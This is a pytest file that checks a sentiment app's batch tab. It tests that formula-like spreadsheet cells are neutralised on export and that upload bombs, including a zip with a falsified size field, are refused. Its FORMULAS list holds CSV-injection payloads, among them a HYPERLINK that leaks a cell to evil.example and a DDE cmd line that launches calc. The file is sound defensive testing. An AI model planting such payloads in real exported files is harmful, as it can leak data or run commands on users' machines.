"""The batch tab's files (issue 26): formula-like cells neutralised in the download, upload bombs refused or cut short."""

from __future__ import annotations

import csv
import io
import re
import struct
import zipfile

import pytest

from app.ui import batch_files
from bench.upload_bombs import xlsx_bytes
from pipeline import Sentiment, UserInputError

# Cells a spreadsheet could run, from the issue and OWASP's list, with the variants the rule names: leading
# spaces (ASCII, ideographic, no-break), a tab or a carriage return first, the full-width forms.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "=",
    "-",
    "   =1+1",
    "\u3000=1+1",
    "\u00a0@SUM(1)",
    "\t=1+1",
    "\tplain after a tab",
    "＝1+1",
    "＋1+1",
    "－2+3",
    "＠SUM(1)",
    "+86 138 0000 0000",
]
CARRIAGE_RETURN = ["\r=1+1", "\r"]  # not in a pasted line or an xlsx cell: each would end the line there
# Written as they are: a plain number cannot call anything; the rest does not begin a formula.
HARMLESS = ["-5", "+1.5", "-1,234", "很好 =1+1", "1+1", "'=already quoted", "好评"]
PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)*", re.ASCII)
HEADER = ["编号", "=SUM(A1:A9)", "@评论"]


def runs_as_formula(cell: str) -> bool:
    """This test's own reading of the rule: a formula character first, or after whitespace; a tab or CR first."""
    return cell[:1] in ("\t", "\r") or cell.lstrip()[:1] in set("=+-@＝＋－＠")


def results_for(count: int) -> list:
    """Labels for count rows, with refusals whose note is itself formula-like (the app writes those cells too)."""
    return [Sentiment("正面", 0.9, 1.0, {}) if i % 2 else UserInputError("x", "=note()") for i in range(count)]


def written_rows(table: batch_files.ReviewsTable, results: list) -> list[list[str]]:
    """The labelled CSV's rows as a spreadsheet would split them."""
    data = batch_files.labelled_csv(table, results)
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def source(kind: str, cells: list[str], tmp_path):
    """cells as column 2 of a .csv or .xlsx (with HEADER), or as pasted lines; the table read back and its column."""
    rows = [[f"{i}", cell, cell] for i, cell in enumerate(cells, 1)]
    if kind == "csv":
        path = tmp_path / "r.csv"
        with open(path, "w", encoding="utf-8", newline="") as f:
            csv.writer(f).writerows([HEADER, *rows])
        return batch_files.read_table(path), 1
    if kind == "xlsx":
        import openpyxl

        book = openpyxl.Workbook()
        sheet = book.active
        for r, row in enumerate([HEADER, *rows], 1):
            for c, value in enumerate(row, 1):
                cell = sheet.cell(r, c, value)
                cell.data_type = "s"  # text that begins with "=", as Excel stores a typed '=..., not a formula
        book.save(tmp_path / "r.xlsx")
        return batch_files.read_table(tmp_path / "r.xlsx"), 1
    return batch_files.pasted_table("\n".join(cells)), 0


@pytest.mark.parametrize("kind", ["csv", "xlsx", "pasted"])
def test_every_written_cell_is_neutralised_and_every_shown_cell_is_unchanged(kind, tmp_path):
    """Formula-like cells in, through each source: the download quotes them all, the page shows them as read."""
    from app.ui import batch_tab

    cells = FORMULAS + HARMLESS + (CARRIAGE_RETURN if kind == "csv" else [])
    table, column = source(kind, cells, tmp_path)
    assert table.texts(column) == cells  # read as typed: the reader itself changes nothing
    results = results_for(len(cells))
    written = written_rows(table, results)
    sent = [table.header or ["文本"], *table.rows]
    assert len(written) == len(sent) and len(written[0]) == len(sent[0]) + len(batch_files.LABEL_COLUMNS)
    for out_row, in_row in zip(written, sent):
        for i, out in enumerate(out_row):
            assert not runs_as_formula(out) or PLAIN_NUMBER.fullmatch(out), repr(out)
            if i < len(in_row):  # the file's own cells keep their text after the quote
                assert out == in_row[i] or out == "'" + in_row[i]
    quoted = [cell for row, cell in zip(written[1:], cells) if row[column] != cell]
    assert quoted == FORMULAS + (CARRIAGE_RETURN if kind == "csv" else [])  # and HARMLESS as they were
    assert written[1][-1] == "'=note()"  # an appended cell the app wrote
    shown = batch_tab.results_frame(table.texts(column), results)
    assert list(shown["文本"]) == cells


def test_header_cells_are_neutralised():
    """The header row is written by the app too: a formula-like column name is quoted."""
    table = batch_files.ReviewsTable([["1", "好", "x"]], HEADER, "t.csv")
    assert written_rows(table, [None])[0][:3] == ["编号", "'=SUM(A1:A9)", "'@评论"]


def test_plain_numbers_are_written_as_numbers():
    """"-5" stays a number in the spreadsheet; one character more and it is quoted."""
    assert [batch_files.neutralised(c) for c in ("-5", "+1.5", "-5 ", "-5+1", "－5")] == \
        ["-5", "+1.5", "'-5 ", "'-5+1", "'－5"]


# -- bounds ---------------------------------------------------------------------------------------------------

def _inline(row: int, text: str, column: str = "A") -> str:
    return f'<row r="{row}"><c r="{column}{row}" t="inlineStr"><is><t>{text}</t></is></c></row>'


def test_more_rows_than_a_batch_refuses_the_file_as_the_batch_would(tmp_path):
    """A filled row past max_rows (+ the header) refuses the file with the batch's own Chinese words."""
    path = tmp_path / "many.xlsx"
    path.write_bytes(xlsx_bytes("".join(_inline(r, f"好评{r}") for r in range(1, 13)), "A1:A12"))
    assert len(batch_files.read_table(path, max_rows=11).rows) == 11
    with pytest.raises(UserInputError) as refused:
        batch_files.read_table(path, max_rows=10)
    assert refused.value.chinese == "条数太多：many.xlsx 超过 10 条，每批最多 10 条，请分成几批"
    lines = tmp_path / "many.txt"
    lines.write_text("好\n" * 11, encoding="utf-8")
    with pytest.raises(UserInputError, match="more than 10"):
        batch_files.read_table(lines, max_rows=10)
    with pytest.raises(UserInputError, match="more than 10"):
        batch_files.pasted_table("好\n" * 11, max_rows=10)


def test_a_sheet_running_on_empty_to_its_last_row_is_cut_short_with_a_notice(tmp_path):
    """One cell at row 1,048,576 (openpyxl fills the gap) or rows that exist empty: reading stops, and says so."""
    gap = tmp_path / "gap.xlsx"
    gap.write_bytes(xlsx_bytes(_inline(1, "评论") + _inline(2, "好评") + _inline(1048576, "x"), "A1:A1048576"))
    empty_rows = "".join(f'<row r="{r}" s="1" customFormat="1"/>' for r in range(3, batch_files.MAX_BLANK_RUN + 9))
    formatted = tmp_path / "formatted.xlsx"
    formatted.write_bytes(xlsx_bytes(_inline(1, "评论") + _inline(2, "好评") + empty_rows + _inline(20000, "x")))
    for path in (gap, formatted):
        table = batch_files.read_table(path)
        assert table.texts(0) == ["好评"] and table.header == ["评论"]
        assert table.notice.startswith(f"只读取了前 2 行：之后连续 {batch_files.MAX_BLANK_RUN} 行都是空行")


def test_blank_rows_inside_and_at_the_end_are_read_as_before(tmp_path):
    """Blank rows under MAX_BLANK_RUN inside stay (marked empty later); trailing ones go, without a notice."""
    path = tmp_path / "r.xlsx"
    path.write_bytes(xlsx_bytes(_inline(1, "评论") + _inline(2, "好") + _inline(500, "差") + _inline(9000, "")))
    table = batch_files.read_table(path)
    assert len(table.rows) == 499 and table.texts(0)[-1] == "差" and table.notice == ""


def test_huge_shared_strings_are_refused_before_openpyxl_opens_them(tmp_path, monkeypatch):
    """The zip's declared sizes are summed first: past the bound, refused without reading a byte of them."""
    monkeypatch.setattr(batch_files, "MAX_XLSX_UNZIPPED_BYTES", 1 << 20)
    path = tmp_path / "strings.xlsx"
    path.write_bytes(xlsx_bytes('<row r="1"><c r="A1" t="s"><v>0</v></c></row>', shared=["a" * (2 << 20)]))
    with pytest.raises(UserInputError) as refused:
        batch_files.read_table(path)
    assert refused.value.chinese.startswith("文件过大：strings.xlsx 解压后约 2 MB，上限 1 MB")


def test_a_zip_that_understates_its_sizes_fails_instead_of_expanding(tmp_path, monkeypatch):
    """CPython's zipfile stops a part at its declared size, so a lying directory cannot slip past the bound."""
    monkeypatch.setattr(batch_files, "MAX_XLSX_UNZIPPED_BYTES", 1 << 20)
    bomb = zipfile.ZipFile(io.BytesIO(xlsx_bytes('<row r="1"><c r="A1" t="s"><v>0</v></c></row>',
                                                 shared=["a" * (2 << 20)])))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:  # without zip64, so the sizes sit in one field
        for name in bomb.namelist():
            z.writestr(name, bomb.read(name))
    data = bytearray(out.getvalue())
    entry = data.find(b"PK\x01\x02")  # the first central directory entry
    while entry != -1:
        name_length = struct.unpack_from("<H", data, entry + 28)[0]
        if data[entry + 46:entry + 46 + name_length] == b"xl/sharedStrings.xml":
            struct.pack_into("<I", data, entry + 24, 1000)  # uncompressed size: 1,000 bytes, it says
        entry = data.find(b"PK\x01\x02", entry + 4)
    path = tmp_path / "liar.xlsx"
    path.write_bytes(bytes(data))
    with pytest.raises(UserInputError) as refused:
        batch_files.read_table(path)
    assert "不是有效的 .xlsx" in refused.value.chinese


def test_too_many_columns_refuse_and_a_wide_dimension_does_not_widen_rows(tmp_path):
    """A filled cell past MAX_COLUMNS refuses; a dimension claiming column XFD reads as the cells there are."""
    wide = tmp_path / "wide.xlsx"
    wide.write_bytes(xlsx_bytes(_inline(1, "评论") + _inline(2, "x", "CW"), "A1:XFD2"))  # CW: column 101
    with pytest.raises(UserInputError) as refused:
        batch_files.read_table(wide)
    assert refused.value.chinese.startswith(f"列数太多：wide.xlsx 超过 {batch_files.MAX_COLUMNS} 列")
    claims = tmp_path / "claims.xlsx"
    claims.write_bytes(xlsx_bytes(_inline(1, "评论") + _inline(2, "好"), "A1:XFD1048576"))
    assert batch_files.read_table(claims).width == 1


def test_csv_bombs_become_chinese_refusals(tmp_path, monkeypatch):
    """A field over csv's limit and a file over MAX_TEXT_BYTES are UserInputErrors, not crashes."""
    field = tmp_path / "field.csv"
    field.write_text('评论\n"' + "好" * 200_000 + '"\n', encoding="utf-8")
    with pytest.raises(UserInputError) as refused:
        batch_files.read_table(field)
    assert "CSV 格式不对" in refused.value.chinese
    monkeypatch.setattr(batch_files, "MAX_TEXT_BYTES", 1000)
    big = tmp_path / "big.txt"
    big.write_text("好\n" * 400, encoding="utf-8")
    with pytest.raises(UserInputError) as refused:
        batch_files.read_table(big)
    assert refused.value.chinese.startswith("文件过大：big.txt")


def test_a_file_of_newlines_is_read_as_no_rows_with_a_notice(tmp_path):
    """Millions of blank lines: reading stops after MAX_BLANK_RUN of them, nothing is kept."""
    path = tmp_path / "blank.txt"
    path.write_bytes(b"\n" * 3_000_000)
    table = batch_files.read_table(path)
    assert table.rows == [] and table.notice.startswith(f"文件开头连续 {batch_files.MAX_BLANK_RUN} 行都是空行")
